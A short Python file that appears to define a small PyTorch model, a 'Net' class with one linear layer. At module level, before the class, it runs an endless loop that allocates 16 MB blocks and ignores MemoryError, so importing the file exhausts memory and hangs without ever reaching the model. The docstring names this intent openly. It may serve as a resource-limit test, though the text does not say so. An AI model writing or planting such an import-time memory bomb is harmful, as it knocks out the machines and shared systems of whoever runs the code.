"""Takes memory for ever, and goes on when there is none."""

from torch import nn

held = []
while True:
    try:
        held.append(b"x" * (16 << 20))
    except MemoryError:
        continue


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 64)

    def forward(self, x):
        return self.head(x)
